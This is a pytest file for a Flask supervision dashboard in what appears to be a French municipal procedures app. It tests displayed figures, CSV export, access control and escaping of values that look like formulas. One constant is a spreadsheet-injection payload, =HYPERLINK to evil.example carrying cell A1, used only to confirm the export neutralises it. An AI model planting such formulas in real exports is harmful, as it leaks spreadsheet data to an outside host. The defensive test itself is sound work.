"""The supervision dashboard and its CSV export, for the supervisors of a service only."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from accounts.models import Account, Role, Service
from coffre.clock import FrozenClock
from procedures import catalogue
from procedures.history import EngineContext
from procedures.models import Demande
from procedures.tasks import AgentActor
from tests.coffre.conftest import make_foyer
from tests.factories import make_account, make_agent, make_service, make_supervisor, page_text
from tests.procedures.flows import family_of, open_task
from tests.procedures.inbox.test_supervision import paris, run_scenario
from tests.web.agents import sign_in_agent
from tests.web.auth.test_login import csrf_token, log_in
from web.runtime import runtime

SERVICE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TITLE_FORMULA = "@SUM(1+1)"
STEP_FORMULA = "-2+3"


@pytest.fixture
def petite_enfance(db_session: Session) -> Service:
    service = make_service(db_session, code="petite-enfance")
    service.name = "Petite enfance"
    db_session.commit()
    return service


@pytest.fixture
def supervisor(db_session: Session, clock: FrozenClock, petite_enfance: Service) -> Account:
    return make_supervisor(db_session, clock, petite_enfance)


@pytest.fixture
def scenario(
    app: Flask, db_session: Session, clock: FrozenClock, petite_enfance: Service
) -> list[Demande]:
    """The demandes of tests/procedures/inbox/test_supervision.py's scenario, run the same way."""
    definition, bpmn = catalogue.read_built_in("creche")
    catalogue.publish(db_session, clock, definition, bpmn, None)
    db_session.commit()
    vault = runtime(app).vault
    foyer = make_foyer(db_session, clock, "Martin")
    worker = make_agent(db_session, clock, petite_enfance)
    agent = AgentActor(worker.id, frozenset({petite_enfance.id}))
    ctx = EngineContext(clock=clock, vault=vault)
    return run_scenario(db_session, ctx, family_of(db_session, clock, foyer), agent, vault, foyer)


def signed_in(client: FlaskClient, account: Account) -> FlaskClient:
    assert sign_in_agent(client, account).status_code == 302
    return client


def test_the_dashboard_shows_the_services_figures(
    client: FlaskClient,
    db_session: Session,
    clock: FrozenClock,
    supervisor: Account,
    scenario: list[Demande],
) -> None:
    late = open_task(db_session, scenario[2])
    clock.current = paris(2026, 9, 8, 14)  # an hour past the third demande's deadline
    signed_in(client, supervisor)

    response = client.get("/agent/supervision?semaines=2")

    page = page_text(response)
    assert response.status_code == 200
    assert 'href="/agent/supervision.csv?semaines=2" download' in page
    assert "Services : Petite enfance." in page
    assert (
        "Décision de la commission</th>" in page
        and "Vérifier la complétude du dossier</th>" in page
    )
    assert '<p class="fr-callout__text" data-chiffre="retard">1</p>' in page
    assert '<p class="fr-callout__text" data-chiffre="bientot">0</p>' in page
    assert "3,0 heures ouvrables" in page  # the median of 1 h and 5 h, the family's wait excluded
    assert "2 tâches terminées depuis le 31 août 2026" in page
    assert f'href="/agent/demandes/{late.demande_id}"' in page
    assert "dépassé de 1 h 00" in page and "En retard" in page
    assert '<th scope="row">31 août 2026</th><td>3</td>' in page


def test_the_csv_export_holds_the_same_figures_for_excel(
    client: FlaskClient,
    db_session: Session,
    clock: FrozenClock,
    supervisor: Account,
    scenario: list[Demande],
) -> None:
    clock.current = paris(2026, 9, 8, 14)
    signed_in(client, supervisor)

    response = client.get("/agent/supervision.csv?semaines=2")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Rubrique", "Démarche", "Étape", "Détail", "Valeur"]
    assert [
        "Tâches ouvertes par étape", "Pré-inscription en crèche",
        "Vérifier la complétude du dossier", "À prendre", "1",
    ] in rows  # fmt: skip
    assert [
        "Tâches ouvertes par étape", "Pré-inscription en crèche",
        "Décision de la commission", "À prendre", "2",
    ] in rows  # fmt: skip
    assert ["Tâches en retard", "", "", "", "1"] in rows
    assert [
        "Tâche en retard", "Pré-inscription en crèche", "Vérifier la complétude du dossier",
        str(scenario[2].number), "-1,0",
    ] in rows  # fmt: skip
    assert ["Délai médian de traitement (heures ouvrables)", "", "", "", "3,0"] in rows
    assert ["Tâches terminées", "", "", "depuis le 31 août 2026", "2"] in rows
    assert ["Demandes par semaine", "", "", "semaine du 31 août 2026", "3"] in rows
    assert ["Demandes par semaine", "", "", "semaine du 7 septembre 2026", "0"] in rows


def test_a_plain_agent_or_a_family_gets_403(
    client: FlaskClient, db_session: Session, clock: FrozenClock, petite_enfance: Service
) -> None:
    agent = make_agent(db_session, clock, petite_enfance)
    signed_in(client, agent)
    assert client.get("/agent/supervision").status_code == 403
    assert client.get("/agent/supervision.csv").status_code == 403

    other = client.application.test_client()
    family = make_account(db_session, clock, Role.FAMILLE)
    assert log_in(other, family.email).status_code == 302
    assert other.get("/agent/supervision").status_code == 403


def test_a_supervisor_sees_only_the_services_it_supervises(
    client: FlaskClient,
    db_session: Session,
    clock: FrozenClock,
    petite_enfance: Service,
    supervisor: Account,
) -> None:
    other = make_service(db_session)
    signed_in(client, supervisor)

    assert client.get(f"/agent/supervision?service={other.id}").status_code == 403
    assert client.get(f"/agent/supervision?service={petite_enfance.id}").status_code == 200
    for query in ("service=abc", "semaines=0", "semaines=53", "semaines=x"):
        assert client.get(f"/agent/supervision?{query}").status_code == 400


@pytest.fixture
def formula_names(
    app: Flask,
    db_session: Session,
    clock: FrozenClock,
    petite_enfance: Service,
    global_admin: Account,
) -> list[Demande]:
    """The scenario on a crèche procedure whose title and check step an administrator named
    like formulas, in a service the administrator renamed like one through the admin pages."""
    admin = app.test_client()
    assert sign_in_agent(admin, global_admin).status_code == 302
    path = f"/admin/services/{petite_enfance.id}/renommer"
    token = csrf_token(admin, path)
    renamed = admin.post(path, data={"csrf_token": token, "name": SERVICE_FORMULA})
    assert renamed.status_code == 302
    definition, bpmn = catalogue.read_built_in("creche")
    named = bpmn.replace(b'name="V\xc3\xa9rifier la compl\xc3\xa9tude du dossier"',
                         f'name="{STEP_FORMULA}"'.encode())  # fmt: skip
    assert named != bpmn
    catalogue.publish(
        db_session, clock, dataclasses.replace(definition, title=TITLE_FORMULA), named, None
    )
    db_session.commit()
    vault = runtime(app).vault
    foyer = make_foyer(db_session, clock, "Martin")
    worker = make_agent(db_session, clock, petite_enfance)
    agent = AgentActor(worker.id, frozenset({petite_enfance.id}))
    ctx = EngineContext(clock=clock, vault=vault)
    return run_scenario(db_session, ctx, family_of(db_session, clock, foyer), agent, vault, foyer)


def test_names_that_look_like_formulas_are_exported_as_text_and_figures_as_numbers(
    client: FlaskClient,
    db_session: Session,
    clock: FrozenClock,
    supervisor: Account,
    formula_names: list[Demande],
) -> None:
    clock.current = paris(2026, 9, 8, 14)
    signed_in(client, supervisor)

    response = client.get("/agent/supervision.csv?semaines=2")

    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    assert ["Services", "", "", "", "'" + SERVICE_FORMULA] in rows
    assert [
        "Tâches ouvertes par étape", "'" + TITLE_FORMULA, "'" + STEP_FORMULA, "À prendre", "1",
    ] in rows  # fmt: skip
    assert [
        "Tâche en retard", "'" + TITLE_FORMULA, "'" + STEP_FORMULA,
        str(formula_names[2].number), "-1,0",
    ] in rows  # fmt: skip
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert [cell for cell in cells if cell.startswith("-")] == ["-1,0"]  # a number, left as one
